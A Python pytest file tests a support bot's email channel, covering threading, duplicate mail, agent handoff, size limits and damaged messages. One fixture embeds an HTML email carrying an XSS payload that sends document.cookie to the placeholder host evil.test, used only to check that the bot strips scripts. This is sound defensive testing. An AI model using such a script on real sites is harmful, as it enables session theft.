"""The email channel end to end: mail in over SMTP, the dialogue manager, replies out over SMTP."""

from __future__ import annotations

import asyncio
import smtplib
from email import policy

import pytest

from bot.desk import agent
from bot.types import Owner, Role
from connectors.email.convert import conversation_id_for
from connectors.email.inbound import InboundHandler, InboundServer
from tests.connectors.email.conftest import CUSTOMER, SUPPORT, Mailbox, Sink, mail
from tests.waiting import eventually


async def roles_and_texts(box: Mailbox, conversation_id: str) -> list[tuple[Role, str]]:
    history = await box.container.store.history(conversation_id)
    return [(e.message.sender.role, e.message.text) for e in history]


async def test_a_question_is_answered_by_mail_in_its_thread(mailbox: Mailbox, sink: Sink) -> None:
    await mailbox.send(mail("Password help", "Hi,\n\nHow do I reset my password?\n\nThanks,\nAda",
                            message_id="<q1@example.test>"))
    [reply] = await eventually(lambda: sink.to(CUSTOMER))
    assert reply.mail_from == SUPPORT and reply.rcpt_tos == [CUSTOMER]
    assert reply.mail["To"].addresses[0].addr_spec == CUSTOMER
    assert reply.mail["Subject"] == "Re: Password help"
    assert reply.mail["In-Reply-To"] == "<q1@example.test>"
    assert reply.mail["References"] == "<q1@example.test>"
    assert reply.mail["Auto-Submitted"] == "auto-replied"
    assert "open Settings, choose Security" in reply.body
    assert "Sources:\n- Resetting your password\n" in reply.body  # a file name means nothing to a customer


async def test_a_follow_up_in_the_thread_continues_the_conversation(mailbox: Mailbox, sink: Sink) -> None:
    await mailbox.send(mail("Password help", "How do I reset my password?", message_id="<q1@example.test>"))
    [first] = await eventually(lambda: sink.to(CUSTOMER))
    reply_id = first.mail["Message-ID"]
    follow_up = mail("Re: Password help",
                     "Thanks! Can annual plans be refunded?\n\n"
                     "On Mon, 6 Jan 2025 at 10:01, support@acme.test wrote:\n"
                     "> To reset your password open Settings.\n",
                     message_id="<q2@example.test>", references=["<q1@example.test>", reply_id],
                     in_reply_to=reply_id)
    await mailbox.send(follow_up)
    second = (await eventually(lambda: sink.to(CUSTOMER)[1:]))[0]

    assert second.mail["Subject"] == "Re: Password help"
    assert second.mail["In-Reply-To"] == "<q2@example.test>"
    assert second.mail["References"].split() == ["<q1@example.test>", reply_id, "<q2@example.test>"]
    assert "Annual plans can be refunded within 14 days" in second.body or "Refunds" in second.body
    conversation_id = conversation_id_for("<q1@example.test>")
    history = await roles_and_texts(mailbox, conversation_id)
    assert [role for role, _ in history] == [Role.CUSTOMER, Role.BOT, Role.CUSTOMER, Role.BOT]
    assert history[2][1] == "Thanks! Can annual plans be refunded?"  # no quoted history in the transcript
    state = await mailbox.container.store.load(conversation_id)
    assert state is not None and state.customer.id == CUSTOMER and state.customer.name == "Ada Lovelace"
    assert state.slots["email_message_id"] == "<q2@example.test>"


async def test_the_same_mail_delivered_twice_is_answered_once(mailbox: Mailbox, sink: Sink) -> None:
    question = mail("Password help", "How do I reset my password?", message_id="<dup@example.test>")
    await mailbox.send(question)
    await mailbox.send(question)  # an MTA retry after a lost 250, say
    await mailbox.settle()  # every reply job either turn started has run
    assert len(sink.to(CUSTOMER)) == 1
    history = await roles_and_texts(mailbox, conversation_id_for("<dup@example.test>"))
    assert [role for role, _ in history] == [Role.CUSTOMER, Role.BOT]


async def test_an_unanswerable_question_goes_to_an_agent_whose_reply_is_mailed(mailbox: Mailbox, sink: Sink
                                                                                ) -> None:
    await mailbox.send(mail("Cheese", "Is the moon made of cheese?", message_id="<moon@example.test>"))
    [ack] = await eventually(lambda: sink.to(CUSTOMER))
    assert "support team" in ack.body and ack.mail["In-Reply-To"] == "<moon@example.test>"
    conversation_id = conversation_id_for("<moon@example.test>")
    handoffs = await eventually(mailbox.container.queue.open_handoffs)
    assert [h.conversation_id for h in handoffs] == [conversation_id] and handoffs[0].channel == "email"

    alice = agent("alice", "Alice")
    await mailbox.container.desk.reply(conversation_id, alice, "Hi Ada, it is not. Best, Alice")
    answer = (await eventually(lambda: sink.to(CUSTOMER)[1:]))[0]
    assert answer.body.strip() == "Hi Ada, it is not. Best, Alice"
    assert answer.mail["Subject"] == "Re: Cheese" and answer.mail["In-Reply-To"] == "<moon@example.test>"
    assert answer.mail["Auto-Submitted"] is None  # a person wrote it
    assert answer.mail["From"].addresses[0].display_name == "Alice"  # the agent's name, the mailbox's address
    assert answer.mail["From"].addresses[0].addr_spec == SUPPORT and ack.mail["From"] == SUPPORT
    state = await mailbox.container.store.load(conversation_id)
    assert state is not None and state.owner is Owner.HUMAN and state.agent == "alice"


BAD_BODIES = {
    "invalid bytes for the charset": (
        b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        b"How do I reset my password? \xff\xfe caf\xe9\r\n", "How do I reset my password?"),
    "unknown charset": (
        b"Content-Type: text/plain; charset=x-unknown-9\r\n\r\nHow do I reset my password? caf\xc3\xa9\r\n",
        "How do I reset my password? caf\u00e9"),
    "broken base64": (
        b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"SG93IGRvIEkgcmVzZXQgbXkgcGFzc3dvcmQ/!!!*\r\n=x=\r\n", "How do I reset my password?"),
    "html only with a script": (
        b"Content-Type: text/html; charset=utf-8\r\n\r\n"
        b"<html><head><script>alert('pwned')</script></head><body><p>How do I <b>reset</b> my password?</p>"
        b"<script>document.location='http://evil.test/'+document.cookie</script></body></html>\r\n",
        "How do I reset my password?"),
}


@pytest.mark.parametrize("case", list(BAD_BODIES))
async def test_damaged_mail_is_accepted_as_sane_text(mailbox: Mailbox, sink: Sink, case: str) -> None:
    body, expected = BAD_BODIES[case]
    message_id = f"<{case.replace(' ', '-')}@example.test>"
    headers = (f"From: Ada <{CUSTOMER}>\r\nTo: {SUPPORT}\r\nSubject: Help\r\nMessage-ID: {message_id}\r\n"
               "MIME-Version: 1.0\r\n").encode()
    await mailbox.send(headers + body)
    [(role, text), *_] = await roles_and_texts(mailbox, conversation_id_for(message_id))
    assert role is Role.CUSTOMER and text.startswith(expected)
    assert "<" not in text and "script" not in text and "alert" not in text and "cookie" not in text
    assert await eventually(lambda: sink.to(CUSTOMER))  # and it got its answer


async def test_mail_without_a_sender_is_refused_with_a_reason(mailbox: Mailbox, sink: Sink) -> None:
    raw = f"To: {SUPPORT}\r\nSubject: Help\r\nMessage-ID: <anon@example.test>\r\n\r\nHello\r\n".encode()
    with pytest.raises(smtplib.SMTPDataError) as refused:
        await mailbox.send(raw)
    assert refused.value.smtp_code == 550
    assert b"5.6.0" in refused.value.smtp_error and b"From" in refused.value.smtp_error


async def test_oversized_mail_is_refused(mailbox: Mailbox) -> None:
    server = await InboundServer(InboundHandler(mailbox.container), "127.0.0.1", 0,
                                 data_size_limit=1024 * 1024).start()
    small = Mailbox(mailbox.container, server)
    big = mail("Logs", "x" * 80 + "\n", message_id="<big@example.test>")
    big.set_content(("log line " * 10 + "\n") * 12_000)  # about 1.1 MiB
    with pytest.raises(smtplib.SMTPException) as declared:  # the client announces SIZE: refused at MAIL FROM
        await small.send(big)
    assert getattr(declared.value, "smtp_code", None) == 552

    def undeclared() -> tuple[int, bytes]:
        with smtplib.SMTP("127.0.0.1", server.port, timeout=10) as smtp:
            smtp.ehlo()
            smtp.mail(CUSTOMER)
            smtp.rcpt(SUPPORT)
            return smtp.data(big.as_bytes(policy=policy.SMTP))

    try:
        code, _ = await asyncio.to_thread(undeclared)  # no SIZE: counted while it arrives, refused after DATA
    finally:
        await server.close()
    assert code == 552
    assert await mailbox.container.store.load(conversation_id_for("<big@example.test>")) is None


async def test_auto_replies_are_accepted_but_never_answered(mailbox: Mailbox, sink: Sink) -> None:
    away = mail("Out of office", "I am away until Monday.", message_id="<ooo@example.test>")
    away["Auto-Submitted"] = "auto-replied"
    await mailbox.send(away)
    bounce = mail("Undelivered", "How do I reset my password?", message_id="<bounce@example.test>")
    await mailbox.send(bounce, mail_from="")
    await mailbox.settle()
    assert sink.to(CUSTOMER) == []
    assert await mailbox.container.store.load(conversation_id_for("<ooo@example.test>")) is None


async def test_only_configured_recipients_are_accepted(mailbox: Mailbox) -> None:
    server = await InboundServer(InboundHandler(mailbox.container, recipients=[SUPPORT.upper()]),
                                 "127.0.0.1", 0).start()
    hello = mail("Hi", "Hello", message_id="<r@example.test>")
    try:
        def send_to(address: str) -> None:
            with smtplib.SMTP("127.0.0.1", server.port, timeout=10) as smtp:
                smtp.sendmail(CUSTOMER, [address], hello.as_bytes(policy=policy.SMTP))

        with pytest.raises(smtplib.SMTPRecipientsRefused):
            await asyncio.to_thread(send_to, "someone@acme.test")
        await asyncio.to_thread(send_to, SUPPORT)
    finally:
        await server.close()


async def test_an_undecodable_sender_name_is_replaced_not_an_error(mailbox: Mailbox, sink: Sink) -> None:
    message_id = "<eight-bit-name@example.test>"
    raw = (f"From: Fritz M\xfcller <{CUSTOMER}>\r\nTo: {SUPPORT}\r\nSubject: Help\r\nMessage-ID: {message_id}\r\n"
           "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHow do I reset my password?\r\n"
           ).encode("latin-1")
    await mailbox.send(raw)
    assert await eventually(lambda: sink.to(CUSTOMER))
    state = await mailbox.container.store.load(conversation_id_for(message_id))
    assert state is not None and not any("\ud800" <= ch <= "\udfff" for ch in state.customer.name)
